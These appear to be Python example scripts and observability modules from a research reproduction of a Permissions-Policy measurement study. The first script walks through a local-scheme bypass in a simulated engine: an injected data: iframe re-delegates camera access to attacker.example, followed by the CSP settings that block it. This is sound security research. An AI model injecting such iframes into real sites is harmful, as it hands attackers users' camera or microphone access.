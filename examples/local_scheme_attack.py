#!/usr/bin/env python3
"""Walkthrough of the local-scheme specification issue (paper Section 6.2).

The paper discovered that local-scheme documents (``data:``,
``about:srcdoc``, ``blob:``) do not inherit their parent's *declared*
Permissions-Policy — only the per-feature boolean outcome.  A site that
carefully deploys ``Permissions-Policy: camera=(self)`` can therefore be
bypassed: an injected ``data:`` iframe may re-delegate the camera to an
arbitrary third party (Table 11).  The attack needs one precondition — the
site's CSP must not constrain frame loads.

This example walks through the scenario step by step with the policy
engine, in both the shipped (buggy) and the expected behaviour, and then
shows which CSP configurations stop it.

Run with:  python examples/local_scheme_attack.py
"""

from repro import PermissionsPolicyEngine, PolicyFrame
from repro.policy.csp import ContentSecurityPolicy, local_scheme_attack_possible
from repro.policy.origin import Origin
from repro.tools.poc import LocalSchemePoC


def step(number: int, text: str) -> None:
    print(f"\n[{number}] {text}")


def main() -> None:
    print("Local-scheme document attack (W3C webappsec-permissions-policy "
          "issue #552)")

    step(1, "victim.example deploys the second most common configuration:")
    victim = PolicyFrame.top("https://victim.example",
                             header="camera=(self)")
    shipped = PermissionsPolicyEngine(local_scheme_bug=True)
    fixed = PermissionsPolicyEngine(local_scheme_bug=False)
    print("    Permissions-Policy: camera=(self)")
    print(f"    top-level camera: {shipped.is_enabled('camera', victim)}")

    step(2, "a direct cross-origin delegation is correctly blocked:")
    direct = victim.child("https://attacker.example", allow="camera")
    print('    <iframe src="https://attacker.example" allow="camera">')
    print(f"    attacker camera: {shipped.is_enabled('camera', direct)} "
          "(header holds)")

    step(3, "but an injected data: iframe still receives the camera:")
    local = victim.local_child(scheme="data")
    print('    <iframe src="data:text/html,...">')
    print(f"    data: document camera: {shipped.is_enabled('camera', local)} "
          "(both behaviours agree here)")

    step(4, "the data: document re-delegates — and the header is gone:")
    attacker = local.child("https://attacker.example", allow="camera")
    print('    data: document contains '
          '<iframe src="https://attacker.example" allow="camera">')
    print(f"    shipped specification:  attacker camera = "
          f"{shipped.is_enabled('camera', attacker)}   <-- the bug")
    print(f"    expected behaviour:     attacker camera = "
          f"{fixed.is_enabled('camera', attacker)}")
    decision = shipped.explain("camera", attacker)
    print(f"    engine reasoning: {decision.reason}")

    step(5, "the CSP precondition decides whether injection is possible:")
    origin = Origin.parse("https://victim.example")
    for csp_text in (None,
                     "script-src 'self'; object-src 'none'",
                     "default-src 'self'",
                     "frame-src 'self'",
                     "frame-src 'self' data:"):
        policy = (ContentSecurityPolicy.parse(csp_text)
                  if csp_text is not None else None)
        possible = local_scheme_attack_possible(policy, self_origin=origin)
        label = csp_text or "(no CSP)"
        print(f"    {label:45s} -> "
              f"{'INJECTABLE' if possible else 'blocked'}")

    step(6, "the packaged PoC reproduces Table 11 in one call:")
    poc = LocalSchemePoC(csp="script-src 'self'; object-src 'none'")
    print("    " + poc.report().replace("\n", "\n    "))
    print(f"\n    demonstrates the reported issue: "
          f"{poc.demonstrates_issue()}")

    print("\nMitigation for developers: always deploy a frame-constraining "
          "CSP directive\n(frame-src / child-src / default-src) next to a "
          "restrictive Permissions-Policy.")


if __name__ == "__main__":
    main()
