#!/usr/bin/env python3
"""Extension studies: quantifying the paper's Section 6.2 discussion.

The paper identifies shortcomings in the Permissions Policy specification
but (by design) stops at discussing them.  This example measures them
against the synthetic crawl:

1. **Deny-all default** (W3C issue #483): if headers disabled every
   undeclared permission, which deployed sites would break?
2. **Local-scheme attack surface** (issue #552 / Table 11): who is exposed
   to the bypass right now, and how much does a frame-constraining CSP
   help?
3. **Permission-list fingerprinting** (Section 4.1.1): how identifying is
   the allowed-feature list across browsers and versions?
4. **Delegation purposes** (Section 4.2.1): reconstruct the paper's
   grouping of widget delegations from the data alone.

Run with:  python examples/spec_proposal_studies.py [site_count]
"""

import sys

from repro import CrawlerPool, SyntheticWeb
from repro.analysis.categories import purpose_clusters
from repro.analysis.fingerprinting import (
    distinguishing_features,
    fingerprint_surface,
)
from repro.analysis.proposals import (
    evaluate_default_disallow_all,
    local_scheme_attack_surface,
)
from repro.registry.browsers import CHROMIUM, FIREFOX
from repro.registry.support import default_support_matrix


def main() -> None:
    site_count = int(sys.argv[1]) if len(sys.argv) > 1 else 6_000
    web = SyntheticWeb(site_count, seed=2024)
    print(f"Crawling {site_count:,} sites ...")
    visits = CrawlerPool(web, workers=4).run().successful()

    # ---- 1. deny-all default ----------------------------------------------------
    breakage = evaluate_default_disallow_all(visits)
    print("\n[1] deny-all default (W3C issue #483)")
    print(f"    sites deploying a valid header:      {breakage.header_sites}")
    print(f"    would break under deny-all defaults: "
          f"{breakage.sites_breaking} ({breakage.breaking_share:.1%})")
    print("    most-broken permissions:             "
          + ", ".join(f"{name} ({count})" for name, count
                      in breakage.broken_permissions.most_common(5)))
    print("    → the proposal is cheap for the disable-template majority, "
          "but ads-API\n      users silently rely on the * defaults.")

    # ---- 2. attack surface -------------------------------------------------------
    surface = local_scheme_attack_surface(visits)
    print("\n[2] local-scheme bypass exposure (issue #552, Table 11)")
    print(f"    sites restricting a powerful permission to self: "
          f"{surface.sites_with_self_only_powerful}")
    print(f"    exposed (no frame-constraining CSP):             "
          f"{surface.exposed_sites} ({surface.exposure_share:.0%})")
    print(f"    protected by their CSP:                          "
          f"{surface.protected_by_csp}")
    print("    exposed permissions: "
          + ", ".join(f"{name} ({count})" for name, count
                      in surface.exposed_permissions.most_common(5)))

    # ---- 3. fingerprinting surface -------------------------------------------------
    report = fingerprint_surface()
    matrix = default_support_matrix()
    print("\n[3] permission-list fingerprinting (Section 4.1.1 hypothesis)")
    print(f"    browser releases modelled:   {report.total_releases}")
    print(f"    distinct permission lists:   {report.distinct_lists}")
    print(f"    distinguishable pairs:       "
          f"{report.distinguishable_pairs()} "
          f"({report.distinguishability():.0%})")
    print(f"    signal entropy:              {report.entropy_bits:.2f} of "
          f"{report.max_entropy_bits:.2f} bits")
    diff = sorted(distinguishing_features(
        matrix, matrix.latest_release(CHROMIUM),
        matrix.latest_release(FIREFOX)))
    print(f"    Chromium-vs-Firefox probes:  {', '.join(diff[:6])}, ...")

    # ---- 4. delegation purposes -------------------------------------------------------
    print("\n[4] delegation purpose clusters (Section 4.2.1)")
    for cluster in purpose_clusters(visits):
        exemplars = ", ".join(site for site, _ in cluster.sites[:3])
        print(f"    {cluster.purpose.value:30s} "
              f"{cluster.total_websites:6,} websites   e.g. {exemplars}")


if __name__ == "__main__":
    main()
