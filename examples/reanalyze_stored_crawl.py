#!/usr/bin/env python3
"""Persistence workflow: crawl once, analyse many times.

The paper stores every visit in a database the moment it completes
(Appendix A.2 C14) and runs all analyses offline.  This example shows the
same workflow: crawl → SQLite → (later) reload and analyse, plus the
SQL-side aggregates that answer headline questions without loading a row
of Python objects.

Run with:  python examples/reanalyze_stored_crawl.py [site_count]
"""

import sys
import tempfile
from pathlib import Path

from repro import CrawlStore, CrawlerPool, SyntheticWeb
from repro.analysis.delegation import DelegationAnalysis
from repro.analysis.violations import ViolationAnalysis


def main() -> None:
    site_count = int(sys.argv[1]) if len(sys.argv) > 1 else 2_000
    database = Path(tempfile.mkdtemp()) / "crawl.sqlite"

    # ---- phase 1: crawl and persist -------------------------------------------
    print(f"Crawling {site_count:,} sites into {database} ...")
    web = SyntheticWeb(site_count, seed=2024)
    dataset = CrawlerPool(web, workers=4).run()
    with CrawlStore(database) as store:
        store.save_dataset(dataset)
    size_kb = database.stat().st_size // 1024
    print(f"  stored {dataset.attempted:,} visits ({size_kb:,} KiB)")

    # ---- phase 2: cheap SQL-side questions --------------------------------------
    print("\nSQL-side aggregates (no Python object loading):")
    with CrawlStore(database) as store:
        print(f"  successful visits:        {store.count_successful():,}")
        print(f"  failure taxonomy:         {store.failure_counts()}")
        print(f"  sites sending the header: {store.count_header_sites():,}")
        print(f"  sites with allow attrs:   {store.count_delegating_sites():,}")
        print("  top embedded sites:")
        for site, count in store.top_embedded_sites(5):
            print(f"    {site:30s} {count:6,}")

    # ---- phase 3: full reload for the heavyweight analyses ----------------------
    print("\nReloading for the full analyses ...")
    with CrawlStore(database) as store:
        reloaded = store.load_dataset()
    delegation = DelegationAnalysis(reloaded.successful())
    print(f"  delegating sites (exact):   {delegation.sites_delegating:,} "
          f"({delegation.share_sites_delegating:.2%} of top docs)")
    violations = ViolationAnalysis(reloaded.successful())
    print(f"  sites with blocked calls:   "
          f"{violations.report.sites_with_blocked_calls:,}")
    print(f"  most-blocked permissions:   "
          + ", ".join(f"{name} ({count})" for name, count
                      in violations.report.top_blocked(5)))


if __name__ == "__main__":
    main()
