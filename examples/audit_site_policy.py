#!/usr/bin/env python3
"""Developer workflow: audit and fix one site's permission configuration.

Combines the paper's Section 6.3 tooling the way a site owner would:

1. lint the currently deployed ``Permissions-Policy`` header (would the
   browser even apply it?),
2. crawl the site — with interaction — and observe which permissions its
   pages and widgets actually use,
3. get a least-privilege header and per-iframe ``allow`` suggestions,
4. see where the deployed configuration is broader than needed.

Run with:  python examples/audit_site_policy.py [rank]
"""

import sys

from repro import HeaderLinter, PolicyRecommender, SyntheticFetcher, SyntheticWeb
from repro.synthweb.generator import FailureMode


def pick_interesting_rank(web: SyntheticWeb, preferred: int | None) -> int:
    """Prefer a site that both deploys a header and embeds a delegating
    widget — the most instructive audit."""
    if preferred is not None:
        return preferred
    fallback = None
    for rank in range(web.site_count):
        spec = web.site(rank)
        if spec.failure is not FailureMode.NONE:
            continue
        if fallback is None:
            fallback = rank
        has_header = "permissions-policy" in spec.headers
        has_delegation = any(p.delegated for p in spec.widget_placements)
        if has_header and has_delegation:
            return rank
    return fallback if fallback is not None else 0


def main() -> None:
    preferred = int(sys.argv[1]) if len(sys.argv) > 1 else None
    web = SyntheticWeb(6_000, seed=2024)
    rank = pick_interesting_rank(web, preferred)
    url = web.origin_for_rank(rank)
    spec = web.site(rank)
    print(f"Auditing {url} (rank {rank})")

    # ---- step 1: lint what is deployed --------------------------------------
    deployed = spec.headers.get("permissions-policy")
    print("\n[1] deployed Permissions-Policy header")
    if deployed is None:
        print("    (none deployed — the 95.5% majority case in the paper)")
    else:
        print(f"    {deployed[:100]}{'...' if len(deployed) > 100 else ''}")
        report = HeaderLinter().lint(deployed)
        if report.header_dropped:
            print("    FATAL: syntactically invalid — the browser drops the "
                  "whole header\n    (2% of header-deploying frames in the "
                  "paper hit this)")
        elif not report.findings:
            print("    lint: clean")
        for finding in report.findings:
            print(f"    lint [{finding.severity.value}] "
                  f"{finding.rule.value}: {finding.message}")

    # ---- step 2+3: crawl with interaction, derive recommendations -----------
    print("\n[2] crawling with interaction to observe real usage ...")
    recommender = PolicyRecommender(SyntheticFetcher(web), interact=True)
    recommendation = recommender.recommend(url)
    print(f"    top-level usage:  "
          f"{', '.join(recommendation.observed_top_level) or '(none)'}")
    for origin, permissions in recommendation.observed_embedded.items():
        print(f"    {origin}: {', '.join(permissions)}")

    print("\n[3] suggested least-privilege header")
    header = recommendation.suggested_header
    print(f"    {header[:110]}...")
    print(f"    ({header.count('=')} directives — covering every supported "
          "permission,\n     which no website in the paper's data achieved)")

    # ---- step 4: over-grant report ------------------------------------------
    print("\n[4] over-grant report")
    if recommendation.header_over_grants:
        print(f"    header grants without observed usage: "
              f"{', '.join(recommendation.header_over_grants)}")
    flagged = [s for s in recommendation.delegation_suggestions
               if s.over_granted]
    if not flagged and not recommendation.header_over_grants:
        print("    configuration already matches observed usage")
    for suggestion in flagged:
        print(f"    iframe {suggestion.iframe_src}")
        print(f"      delegated but unused: "
              f"{', '.join(suggestion.over_granted)}")
        print(f"      suggested allow:      "
              f"\"{suggestion.suggested_allow or '(nothing)'}\"")


if __name__ == "__main__":
    main()
