#!/usr/bin/env python3
"""The Figure 3/4 tools: permission support matrix and header generation.

Shows the caniuse-style views the paper's companion website provides —
per-browser support, historical changes, Chromium-only features — and the
header generator presets built on top of the same data.

Run with:  python examples/permission_compat.py
"""

from repro import HeaderGenerator, HeaderPreset, SupportSiteReport
from repro.registry.browsers import CHROMIUM, FIREFOX, SAFARI


def main() -> None:
    report = SupportSiteReport()

    # ---- the main matrix ------------------------------------------------------
    print(report.render())

    counts = report.summary_counts()
    print(f"\n{counts['permissions']} permissions tracked; "
          f"{counts['policy_controlled']} policy-controlled, "
          f"{counts['powerful']} powerful, "
          f"{counts['chromium_only']} Chromium-only, "
          f"{counts['universally_supported']} supported everywhere")

    # ---- historical changes (the "across versions" view) ----------------------
    print("\nSupport history examples:")
    for permission, browser in (("storage-access", FIREFOX),
                                ("interest-cohort", CHROMIUM),
                                ("push", SAFARI)):
        print()
        print(report.history_report(permission, browser))

    # ---- header generation -----------------------------------------------------
    generator = HeaderGenerator(matrix=report.matrix)
    print("\nGenerated headers (always in sync with the support data):")
    disable_powerful = generator.generate_preset(HeaderPreset.DISABLE_POWERFUL)
    print(f"\n  preset disable-powerful "
          f"({disable_powerful.count('=')} directives):")
    print(f"    Permissions-Policy: {disable_powerful}")

    custom = generator.generate_custom(
        self_only=("geolocation", "clipboard-read"),
        allow_origins={"camera": ("https://meet.example",),
                       "microphone": ("https://meet.example",)},
    )
    print("\n  custom (video-conferencing site embedding meet.example):")
    print(f"    Permissions-Policy: {custom[:130]}...")
    print(f"\n  complete coverage of supported permissions: "
          f"{generator.is_complete(custom)}")


if __name__ == "__main__":
    main()
