#!/usr/bin/env python3
"""Supply-chain risk audit: find over-permissioned embedded widgets.

Reproduces the paper's Section 5 workflow end to end:

1. crawl the synthetic web,
2. for every embedded origin, collect the permissions it is delegated in
   at least 5 % of its iframe occurrences,
3. subtract everything the widget's documents actually exhibit activity
   for (dynamic invocations, status checks, static functionality),
4. rank widgets by the number of affected websites (Tables 10/13),
5. drill into the LiveChat case study (Section 5.2).

Run with:  python examples/widget_supply_chain.py [site_count]
"""

import sys

from repro import CrawlerPool, OverPermissionAnalysis, SyntheticWeb
from repro.analysis.report import render_table


def main() -> None:
    site_count = int(sys.argv[1]) if len(sys.argv) > 1 else 8_000
    web = SyntheticWeb(site_count, seed=2024)
    print(f"Crawling {site_count:,} sites ...")
    dataset = CrawlerPool(web, workers=4).run()

    analysis = OverPermissionAnalysis(dataset.successful())

    rows = [(row.site, ", ".join(row.unused_permissions),
             row.affected_websites)
            for row in analysis.unused_delegations()[:15]]
    print()
    print(render_table(
        ("embedded widget", "potentially unused permissions", "# websites"),
        rows, title="Widgets delegated permissions they never use"))
    print(f"\ntotal affected websites: "
          f"{analysis.total_affected_websites():,}")

    # ---- the LiveChat case study -------------------------------------------
    study = analysis.case_study("livechatinc.com")
    print("\nLiveChat case study (paper Section 5.2)")
    print(f"  embedded on (occurrences):   {study['occurrences']}")
    print(f"  delegation rate:             {study['delegation_rate']:.2%} "
          f"(paper: 99.70%)")
    print(f"  template delegations:        "
          f"{', '.join(study['prevalent_delegations'])}")
    print(f"  observed widget activity:    "
          f"{', '.join(study['observed_activity']) or '(none)'}")
    print(f"  UNUSED powerful delegations: "
          f"{', '.join(study['unused_delegations'])}")
    print(f"  over-permissioned websites:  "
          f"{study['overpermissioned_websites']} "
          f"(paper: 13,734 of 1M)")
    print("\nIf this widget's infrastructure were compromised, every one of "
          "those\nwebsites would hand the attacker camera and microphone "
          "access —\nsilently wherever the user already granted them.")


if __name__ == "__main__":
    main()
