#!/usr/bin/env python3
"""Quickstart: run a small measurement crawl and compare with the paper.

This is the 60-second tour of the pipeline:

1. build a synthetic top-N web calibrated to the paper's marginals,
2. crawl it with the instrumented simulated browser,
3. run the Section 4 analyses,
4. print paper-vs-measured for every headline number.

Run with:  python examples/quickstart.py [site_count]
"""

import sys
import time

from repro import CrawlerPool, SyntheticWeb, summarize
from repro.analysis.report import render_comparison


def main() -> None:
    site_count = int(sys.argv[1]) if len(sys.argv) > 1 else 5_000

    print(f"Generating a synthetic top-{site_count:,} web (seed 2024) ...")
    web = SyntheticWeb(site_count, seed=2024)

    print("Crawling with 4 parallel crawlers "
          "(the paper used 40 over nine days) ...")
    started = time.time()
    dataset = CrawlerPool(web, workers=4).run()
    elapsed = time.time() - started

    failures = ", ".join(f"{kind}: {count}" for kind, count
                         in sorted(dataset.failure_summary().items()))
    print(f"  visited {dataset.attempted:,} sites in {elapsed:.1f}s — "
          f"{dataset.successful_count:,} successful")
    print(f"  failures: {failures}")
    print(f"  collected {dataset.total_frame_count:,} frames "
          f"({dataset.top_level_document_count:,} top-level, "
          f"{dataset.embedded_document_count:,} embedded)")
    print(f"  simulated crawl time: "
          f"{dataset.average_duration_seconds():.1f}s/site "
          f"(paper: ~35s/site)\n")

    summary = summarize(dataset)
    print(render_comparison(summary.compare_to_paper(),
                            title="Section 4 headline numbers"))
    print(f"\nwebsites embedding over-permissioned widgets: "
          f"{summary.overpermission_affected_websites:,} "
          f"(paper: 36,307 of 1M)")


if __name__ == "__main__":
    main()
