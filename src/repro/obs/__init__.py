"""Zero-dependency observability: tracing spans, metrics, stage profiling.

Three small pieces (DESIGN.md §4f):

* :mod:`repro.obs.tracing` — nestable :func:`span` context managers
  collected by the process-wide :data:`TRACER`, exportable as a JSON tree
  or Chrome ``trace_event`` document;
* :mod:`repro.obs.metrics` — the process-wide :data:`REGISTRY` of
  counters/gauges/histograms that telemetry, storage, the analysis index,
  the policy memo caches and the measurement disk cache report into;
* :mod:`repro.obs.profile` — a stage profiler running the whole pipeline
  (generate → crawl → store → index → analyses) under instrumentation
  (import it explicitly; it pulls in the crawler and analysis layers).

Everything is **off by default** and near-free when off; enabling it never
changes dataset bytes or analysis fields (``tests/test_obs.py``).  Turn it
on for a block with::

    from repro.obs import observed, TRACER, REGISTRY

    with observed():
        dataset = CrawlerPool(web, workers=4).run()
    TRACER.to_chrome_trace()     # load in chrome://tracing
    REGISTRY.snapshot()          # counters / gauges / histograms
"""

from __future__ import annotations

from contextlib import contextmanager

from .metrics import (
    REGISTRY,
    MetricsRegistry,
    disable_metrics,
    enable_metrics,
)
from .tracing import TRACER, Span, Tracer, span

# NOTE: metrics.COUNTING is deliberately not re-exported — it is a live
# module attribute; hot paths must read it as ``metrics.COUNTING``, never
# import the value.

__all__ = [
    "REGISTRY",
    "TRACER",
    "MetricsRegistry",
    "Span",
    "Tracer",
    "disable_metrics",
    "enable_metrics",
    "enable_observability",
    "disable_observability",
    "observed",
    "span",
]


def enable_observability() -> None:
    """Turn tracing and metric collection on together."""
    TRACER.enabled = True
    enable_metrics()


def disable_observability() -> None:
    """Turn both off again (collected data is kept, not cleared)."""
    TRACER.enabled = False
    disable_metrics()


@contextmanager
def observed(*, clear: bool = True):
    """Enable tracing + metrics for a block, restoring prior state after.

    With ``clear=True`` (default) previously collected spans and metric
    values are dropped on entry so the block's trace stands alone.
    """
    was_tracing = TRACER.enabled
    was_counting = REGISTRY.enabled
    if clear:
        TRACER.clear()
        REGISTRY.reset()
    enable_observability()
    try:
        yield TRACER
    finally:
        TRACER.enabled = was_tracing
        if not was_counting:
            disable_metrics()
