"""Structured tracing: nestable spans with JSON and Chrome-trace export.

A :class:`Span` covers one timed region of the pipeline —
``span("crawl.visit", rank=17)`` — and spans nest per thread, producing a
trace *tree* per root.  The schema is deterministic (stable field names,
microsecond integers relative to the tracer's epoch); wall-clock readings
live only in the trace, never in dataset bytes, so tracing cannot perturb
crawl results (the identity tests in ``tests/test_obs.py`` enforce this).

Tracing is **off by default** and near-free when off: a disabled tracer's
:meth:`Tracer.span` returns one shared no-op context manager, so a hot
call site pays a method call and a branch — the cost the <2 % overhead
gate in :mod:`benchmarks.bench_perf_crawl` budgets for.

Two export forms:

* :meth:`Tracer.to_tree` — the nested JSON document ``--trace-out``
  writes next to (and :class:`~repro.obs.profile.PipelineProfile` embeds);
* :meth:`Tracer.to_chrome_trace` — Chrome ``trace_event`` format
  (``chrome://tracing`` / Perfetto loadable): complete ``"X"`` events
  plus process/thread-name metadata.

Process-backend workers trace into their own (inherited or fresh) tracer,
:meth:`export_spans` the finished roots as plain dicts, and ship them back
with the chunk result; the parent :meth:`ingest`\\ s them under a
``chunk-NNN`` process label.
"""

from __future__ import annotations

import threading
import time
from typing import Iterable

#: Process label for spans recorded in this process (workers override via
#: ``ingest(pid=...)`` in the parent).
MAIN_PID = "main"


class Span:
    """One timed region; also its own context manager.

    Entering starts the clock and pushes the span on the current thread's
    stack; exiting pops it and attaches it to the enclosing span (or the
    tracer's roots).  ``set(**attrs)`` adds attributes mid-flight; an
    exception escaping the block is recorded as an ``error`` attribute
    and re-raised.
    """

    __slots__ = ("name", "attrs", "start_us", "duration_us", "thread",
                 "pid", "children", "_tracer", "_t0")

    def __init__(self, name: str, attrs: dict, tracer: "Tracer") -> None:
        self.name = name
        self.attrs = attrs
        self.start_us = 0
        self.duration_us = 0
        self.thread = ""
        self.pid = MAIN_PID
        self.children: list[Span] = []
        self._tracer = tracer
        self._t0 = 0.0

    def set(self, **attrs) -> None:
        self.attrs.update(attrs)

    def __enter__(self) -> "Span":
        tracer = self._tracer
        self.thread = threading.current_thread().name
        tracer._push(self)
        self._t0 = time.perf_counter()
        self.start_us = int((self._t0 - tracer.epoch) * 1e6)
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        self.duration_us = int((time.perf_counter() - self._t0) * 1e6)
        if exc_type is not None:
            self.attrs["error"] = exc_type.__name__
        self._tracer._pop(self)
        return False

    def to_dict(self) -> dict:
        """Deterministic-schema form (the JSON trace tree node)."""
        return {
            "name": self.name,
            "start_us": self.start_us,
            "duration_us": self.duration_us,
            "thread": self.thread,
            "pid": self.pid,
            "attrs": dict(self.attrs),
            "children": [child.to_dict() for child in self.children],
        }

    @classmethod
    def from_dict(cls, data: dict, tracer: "Tracer",
                  pid: str | None = None) -> "Span":
        span = cls(data["name"], dict(data["attrs"]), tracer)
        span.start_us = data["start_us"]
        span.duration_us = data["duration_us"]
        span.thread = data["thread"]
        span.pid = pid if pid is not None else data.get("pid", MAIN_PID)
        span.children = [cls.from_dict(child, tracer, pid)
                         for child in data["children"]]
        return span


class _NullSpan:
    """The shared no-op span a disabled tracer hands out."""

    __slots__ = ()

    def __enter__(self) -> "_NullSpan":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        return False

    def set(self, **attrs) -> None:
        pass


_NULL_SPAN = _NullSpan()


class Tracer:
    """Collects span trees; thread-safe, off by default.

    Each thread keeps its own span stack (spans opened on worker threads
    become independent roots unless nested under a span opened on the
    same thread); finished roots are appended under a lock.
    """

    def __init__(self) -> None:
        self.enabled = False
        self.roots: list[Span] = []
        self._lock = threading.Lock()
        self._local = threading.local()
        self.epoch = time.perf_counter()

    # -- recording ---------------------------------------------------------

    def span(self, name: str, **attrs) -> "Span | _NullSpan":
        """A context manager timing ``name``; no-op while disabled."""
        if not self.enabled:
            return _NULL_SPAN
        return Span(name, attrs, self)

    def _stack(self) -> list:
        stack = getattr(self._local, "stack", None)
        if stack is None:
            stack = self._local.stack = []
        return stack

    def _push(self, span: Span) -> None:
        self._stack().append(span)

    def _pop(self, span: Span) -> None:
        stack = self._stack()
        if stack and stack[-1] is span:
            stack.pop()
        if stack:
            stack[-1].children.append(span)
        else:
            with self._lock:
                self.roots.append(span)

    def clear(self) -> None:
        """Drop all finished spans and restart the epoch (between runs).

        Also resets the per-thread stacks: a forked worker process
        inherits the parent's open-span stack, and without the reset its
        own spans would attach under a span that never closes there.
        """
        with self._lock:
            self.roots = []
            self._local = threading.local()
            self.epoch = time.perf_counter()

    # -- cross-process -----------------------------------------------------

    def export_spans(self) -> list[dict]:
        """Finished roots as plain dicts (picklable worker delta)."""
        with self._lock:
            return [span.to_dict() for span in self.roots]

    def ingest(self, spans: Iterable[dict], *, pid: str | None = None) -> None:
        """Append spans exported elsewhere, relabelled with ``pid``.

        Worker timestamps are relative to the worker's own epoch; Chrome
        trace viewers show each ``pid`` on its own timeline, so no clock
        alignment is attempted.
        """
        rebuilt = [Span.from_dict(data, self, pid) for data in spans]
        with self._lock:
            self.roots.extend(rebuilt)

    # -- export ------------------------------------------------------------

    def span_count(self) -> int:
        """Total finished spans across all trees (overhead accounting)."""
        def count(span: Span) -> int:
            return 1 + sum(count(child) for child in span.children)
        with self._lock:
            return sum(count(span) for span in self.roots)

    def to_tree(self) -> dict:
        """The deterministic-schema JSON trace document."""
        with self._lock:
            return {"schema": "repro.trace/1",
                    "spans": [span.to_dict() for span in self.roots]}

    def to_chrome_trace(self) -> dict:
        """Chrome ``trace_event`` format (load in chrome://tracing)."""
        events: list[dict] = []
        pid_ids: dict[str, int] = {}
        tid_ids: dict[tuple[str, str], int] = {}

        def ids_for(span: Span) -> tuple[int, int]:
            pid = pid_ids.get(span.pid)
            if pid is None:
                pid = pid_ids[span.pid] = len(pid_ids) + 1
                events.append({"ph": "M", "pid": pid, "tid": 0,
                               "name": "process_name",
                               "args": {"name": span.pid}})
            tid_key = (span.pid, span.thread)
            tid = tid_ids.get(tid_key)
            if tid is None:
                tid = tid_ids[tid_key] = len(tid_ids) + 1
                events.append({"ph": "M", "pid": pid, "tid": tid,
                               "name": "thread_name",
                               "args": {"name": span.thread}})
            return pid, tid

        def emit(span: Span) -> None:
            pid, tid = ids_for(span)
            events.append({"name": span.name, "cat": "repro", "ph": "X",
                           "ts": span.start_us, "dur": span.duration_us,
                           "pid": pid, "tid": tid,
                           "args": dict(span.attrs)})
            for child in span.children:
                emit(child)

        with self._lock:
            roots = list(self.roots)
        for span in roots:
            emit(span)
        return {"traceEvents": events, "displayTimeUnit": "ms"}


#: The process-wide tracer every instrumented component records into.
TRACER = Tracer()


def span(name: str, **attrs):
    """Shorthand for ``TRACER.span(name, **attrs)``."""
    return TRACER.span(name, **attrs)
