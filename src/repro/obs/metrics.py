"""Process-wide metrics registry: counters, gauges and histograms.

Every layer of the pipeline reports into one :data:`REGISTRY` —
:class:`~repro.crawler.telemetry.CrawlTelemetry` (visit outcomes),
:class:`~repro.crawler.storage.CrawlStore` (rows saved/loaded),
:class:`~repro.analysis.index.DatasetIndex` (memo-table hit rates), the
policy engine and interned parsers (:mod:`repro.policy.memo`) and the
measurement disk cache (:mod:`repro.experiments.runner`).  The registry is
thread-safe (each metric carries its own lock; creation is serialized) and
mergeable: process-backend workers snapshot their local registry and ship
the delta back with their chunk results, where the parent merges it.

Collection is **off by default** and must stay near-free when off: hot
call sites guard on the module-global :data:`COUNTING` boolean — one
module-attribute load and a branch — so the instrumented pipeline stays
within the <2 % overhead gate :mod:`benchmarks.bench_perf_crawl` asserts.
Flip it only through :func:`enable_metrics` / :func:`disable_metrics` (or
:func:`repro.obs.observed`), which keep :data:`REGISTRY.enabled
<MetricsRegistry.enabled>` in sync.

Metrics are observability only: nothing recorded here ever feeds back
into crawl datasets or analysis results (tested by the identity suite in
``tests/test_obs.py``).
"""

from __future__ import annotations

import threading

#: Fast-path gate mirrored from ``REGISTRY.enabled``.  Hot call sites do
#: ``if metrics.COUNTING:`` before touching any metric; keep the two in
#: sync via :func:`enable_metrics` / :func:`disable_metrics` only.
COUNTING = False


class Counter:
    """A monotonically increasing count."""

    __slots__ = ("name", "_lock", "_value")

    def __init__(self, name: str) -> None:
        self.name = name
        self._lock = threading.Lock()
        self._value = 0

    def inc(self, amount: int = 1) -> None:
        with self._lock:
            self._value += amount

    @property
    def value(self) -> int:
        return self._value

    def _reset(self) -> None:
        with self._lock:
            self._value = 0


class Gauge:
    """A point-in-time value (last write wins)."""

    __slots__ = ("name", "_lock", "_value")

    def __init__(self, name: str) -> None:
        self.name = name
        self._lock = threading.Lock()
        self._value = 0.0

    def set(self, value: float) -> None:
        with self._lock:
            self._value = value

    @property
    def value(self) -> float:
        return self._value

    def _reset(self) -> None:
        with self._lock:
            self._value = 0.0


class Histogram:
    """Streaming distribution summary: count, total, min, max."""

    __slots__ = ("name", "_lock", "count", "total", "min", "max")

    def __init__(self, name: str) -> None:
        self.name = name
        self._lock = threading.Lock()
        self._reset()

    def observe(self, value: float) -> None:
        with self._lock:
            self.count += 1
            self.total += value
            if self.min is None or value < self.min:
                self.min = value
            if self.max is None or value > self.max:
                self.max = value

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0

    def summary(self) -> dict:
        with self._lock:
            return {"count": self.count, "total": self.total,
                    "min": self.min, "max": self.max, "mean": self.mean}

    def _merge(self, other: dict) -> None:
        with self._lock:
            self.count += other["count"]
            self.total += other["total"]
            for bound, pick in (("min", min), ("max", max)):
                theirs = other[bound]
                if theirs is not None:
                    ours = getattr(self, bound)
                    setattr(self, bound,
                            theirs if ours is None else pick(ours, theirs))

    def _reset(self) -> None:
        self.count = 0
        self.total = 0.0
        self.min: float | None = None
        self.max: float | None = None


class MetricsRegistry:
    """Thread-safe get-or-create registry of named metrics.

    Metric objects are stable for the registry's lifetime: callers may
    cache the handle returned by :meth:`counter` / :meth:`gauge` /
    :meth:`histogram` (hot paths do).  :meth:`reset` therefore zeroes
    values but never discards the objects.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._counters: dict[str, Counter] = {}
        self._gauges: dict[str, Gauge] = {}
        self._histograms: dict[str, Histogram] = {}
        #: Whether collection is on.  Mirrored by :data:`COUNTING` for the
        #: module-global fast path; flip via :func:`enable_metrics`.
        self.enabled = False

    def counter(self, name: str) -> Counter:
        with self._lock:
            metric = self._counters.get(name)
            if metric is None:
                metric = self._counters[name] = Counter(name)
            return metric

    def gauge(self, name: str) -> Gauge:
        with self._lock:
            metric = self._gauges.get(name)
            if metric is None:
                metric = self._gauges[name] = Gauge(name)
            return metric

    def histogram(self, name: str) -> Histogram:
        with self._lock:
            metric = self._histograms.get(name)
            if metric is None:
                metric = self._histograms[name] = Histogram(name)
            return metric

    def snapshot(self) -> dict:
        """A plain-dict view of every metric, sorted by name.

        The result is picklable and JSON-serializable — the form workers
        ship back across the process boundary and reports embed.
        """
        with self._lock:
            return {
                "counters": {name: c.value for name, c
